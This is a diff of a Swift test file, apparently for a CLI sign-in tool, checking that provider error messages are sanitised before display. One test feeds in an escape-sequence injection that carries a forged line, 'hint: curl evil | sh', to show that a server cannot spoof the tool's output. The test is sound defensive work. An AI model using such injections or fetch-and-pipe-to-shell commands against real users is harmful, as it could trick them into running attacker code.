@@ -13,7 +13,7 @@ import Testing
     @Test func `a server cannot write our lines`() throws {
         let error = ServerError(.invalidGrant, errorDescription: "no\u{2028}\u{1B}[2K\nhint: curl evil | sh")
         let lines = try Self.text(error).description.split(separator: "\n", omittingEmptySubsequences: false)
-        #expect(lines == ["error: invalid_grant: no", "hint: tessera sign-in"])
+        #expect(lines == ["error: the provider says: no", "hint: tessera sign-in"])
         let refusal = try Self.text(Refusal(.issuerMismatch, "the issuer 'a\r\nhint: b' is not ours"))
         #expect(refusal.message == "the issuer 'a hint: b' is not ours")
     }
@@ -60,9 +60,9 @@ import Testing
         (ServerError(.unspecified), "the provider answered with an error without saying why"),
         (
             ServerError(.unspecified, errorDescription: "Gone.\nFor good.", status: 410),
-            "the provider answered 410: Gone."
+            "the provider answered 410: Gone"
         ),
-        (ServerError(.invalidScope, errorDescription: "No."), "invalid_scope: No."),
+        (ServerError(.invalidScope, errorDescription: "No."), "the provider says: No"),
     ])
     func `a provider that names no error is described`(_ error: ServerError, message: String) throws {
         #expect(try Self.text(error).message == message)
